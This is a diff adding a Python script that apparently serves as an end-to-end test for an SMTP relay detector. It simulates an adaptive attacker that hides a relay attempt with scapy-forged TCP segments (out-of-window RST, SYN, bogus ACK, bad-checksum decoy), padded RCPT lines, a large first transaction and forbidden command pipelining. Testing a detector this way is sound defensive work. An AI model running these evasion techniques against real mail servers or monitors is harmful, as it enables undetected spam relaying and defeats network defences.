@@ -1,0 +1,168 @@
+#!/usr/bin/python3
+"""An attacker who adapts (issue 12): one real SMTP session of its own with a
+relay attempt, hidden the way it says. Every step printed as one line, as
+smtp_session.py does ("<CMD> <code>", "<CMD> timeout" when the session was
+cut off).
+
+  evasion_session.py --server ADDR --src ADDR --how HOW
+                     [--gw-mac MAC --iface IF] [--rcpt R] [--pause S]
+
+HOW:
+  second  a clean local transaction with a 20 KB message first (past the
+          sampling budget), then the relay attempt in the connection's
+          second transaction
+  rst     after the greeting, a forged RST far out of the window (Linux
+          ignores it), then the attempt
+  syn     after the greeting, a forged SYN on the established connection
+          (Linux answers with a challenge ACK), then the attempt
+  ack     after the greeting, a forged pure ACK of 50,000 server bytes never
+          sent, a DATA the server refuses (503), then the attempt
+  pad     the RCPT line padded with 1,100 spaces (Postfix reads 2,048)
+  burst   EHLO, MAIL, RCPT (a local one), DATA, the message and QUIT in one
+          write before any reply (RFC 2920 forbids sending the body before
+          the 354); prints "reply <code>" for each reply that comes
+  decoy   after MAIL, a forged segment with a bad TCP checksum carrying a
+          local RCPT (Linux drops it, Postfix never reads it), then the
+          real RCPT at the same sequence number
+
+The forged segments (scapy, at layer 2 to MAC out of IF) carry the real
+connection's 4-tuple and sequence numbers, read from a capture of the
+session itself. The attempt: MAIL, RCPT to a foreign domain, a pause (a
+bot's), DATA and a message.
+"""
+import argparse
+import socket
+import sys
+import time
+
+from smtp_session import step
+
+
+class Forger:
+    """Sniffs the session on IF to learn its sequence numbers, forges."""
+
+    def __init__(self, a):
+        from scapy.all import AsyncSniffer, conf
+        conf.verb = 0
+        self.a = a
+        self.seen = []
+        self.sniffer = AsyncSniffer(iface=a.iface, store=False,
+                                    lfilter=self.ours, prn=self.seen.append)
+        self.sniffer.start()
+        time.sleep(0.5)  # the sniffer's socket is open
+
+    def ours(self, p):
+        from scapy.all import TCP
+        return TCP in p and 25 in (p[TCP].sport, p[TCP].dport)
+
+    def forge(self, how, sport, payload=b""):
+        from scapy.all import IP, TCP, Ether, Raw, sendp
+        time.sleep(0.2)
+        pkts = [p for p in list(self.seen)
+                if sport in (p[TCP].sport, p[TCP].dport)]
+        cli = [p for p in pkts if p[TCP].dport == 25 and
+               (p[TCP].flags.S or Raw in p)]
+        srv = [p for p in pkts if p[TCP].sport == 25 and Raw in p]
+        if not cli or not srv:
+            raise SystemExit("forge: the session was not captured")
+        last = cli[-1][TCP]
+        cseq = last.seq + (1 if last.flags.S else len(cli[-1][Raw].load))
+        sseq = srv[-1][TCP].seq + len(srv[-1][Raw].load)
+        ip = Ether(dst=self.a.gw_mac) / IP(src=self.a.src, dst=self.a.server)
+        t = dict(sport=sport, dport=25)
+        if how == "decoy":
+            seg = TCP(flags="PA", seq=cseq, ack=sseq, chksum=0xdead,
+                      **t) / Raw(payload)
+        elif how == "rst":
+            seg = TCP(flags="R", seq=(cseq + (1 << 30)) & 0xffffffff, **t)
+        elif how == "syn":
+            seg = TCP(flags="S", seq=(cseq + 123456789) & 0xffffffff, **t)
+        else:
+            seg = TCP(flags="A", seq=cseq, ack=(sseq + 50000) & 0xffffffff,
+                      **t)
+        sendp(ip / seg, iface=self.a.iface)
+        print(f"forged {how}", flush=True)
+        time.sleep(0.3)  # whatever Linux answers, it has answered
+
+
+def transaction(sock, f, a, rcpt, pad=0, forger=None, body_kb=0):
+    """MAIL, RCPT, DATA, message; False when the session was cut off."""
+    if step(sock, f, "MAIL", f"MAIL FROM:<{a.sender}>\r\n".encode()) is None:
+        return False
+    if forger and a.how == "decoy":
+        # as long as the real line: the decoy covers it all
+        local = "u" * max(1, len(rcpt) - len("@example.test")) + "@example.test"
+        forger.forge("decoy", sock.getsockname()[1],
+                     f"RCPT TO:<{local}>\r\n".encode())
+    line = f"RCPT TO:<{rcpt}>" + " " * pad + "\r\n"
+    code = step(sock, f, "RCPT", line.encode())
+    if code is None or not code.startswith("2"):
+        return code is not None
+    time.sleep(a.pause)
+    if step(sock, f, "DATA", b"DATA\r\n") != "354":
+        return False
+    text = "hello\r\n" + ("x" * 78 + "\r\n") * (body_kb * 1024 // 80)
+    body = (f"From: <{a.sender}>\r\nTo: <{rcpt}>\r\nSubject: relayguard "
+            f"e2e evasion\r\n\r\n{text}.\r\n").encode()
+    return step(sock, f, "EOM", body) is not None
+
+
+def session(a):
+    forger = Forger(a) if a.how in ("rst", "syn", "ack", "decoy") else None
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.settimeout(a.timeout)
+    sock.bind((a.src, 0))
+    try:
+        sock.connect((a.server, 25))
+    except OSError as e:
+        print(f"connect failed ({e})", flush=True)
+        return
+    print("connect ok", flush=True)
+    f = sock.makefile("rb")
+    if step(sock, f, "greeting", b"") is None:
+        return
+    if a.how == "burst":
+        sock.sendall((f"EHLO bot.lab.test\r\nMAIL FROM:<{a.sender}>\r\n"
+                      f"RCPT TO:<{a.local}>\r\nDATA\r\nSubject: burst\r\n"
+                      "\r\nhello\r\n.\r\nQUIT\r\n").encode())
+        while step(sock, f, "reply", b"") is not None:
+            pass
+        return
+    if forger and a.how != "decoy":
+        forger.forge(a.how, sock.getsockname()[1])
+        if a.how == "ack" and step(sock, f, "DATA", b"DATA\r\n") is None:
+            return
+    if step(sock, f, "EHLO", b"EHLO bot.lab.test\r\n") is None:
+        return
+    if a.how == "second" and not transaction(sock, f, a, a.local,
+                                             body_kb=20):
+        return
+    if not transaction(sock, f, a, a.rcpt, 1100 if a.how == "pad" else 0,
+                       forger):
+        return
+    step(sock, f, "QUIT", b"QUIT\r\n")
+    sock.close()
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("--server", required=True)
+    p.add_argument("--src", required=True)
+    p.add_argument("--how", required=True,
+                   choices=("second", "rst", "syn", "ack", "pad", "decoy",
+                            "burst"))
+    p.add_argument("--gw-mac")
+    p.add_argument("--iface")
+    p.add_argument("--sender", default="bot@attacker.invalid")
+    p.add_argument("--local", default="user@example.test")
+    p.add_argument("--rcpt", default="victim@gmail.com")
+    p.add_argument("--pause", type=float, default=0.3)
+    p.add_argument("--timeout", type=float, default=2.0)
+    a = p.parse_args()
+    if a.how in ("rst", "syn", "ack", "decoy") and not (a.gw_mac and a.iface):
+        p.error(f"--how {a.how} needs --gw-mac and --iface")
+    session(a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
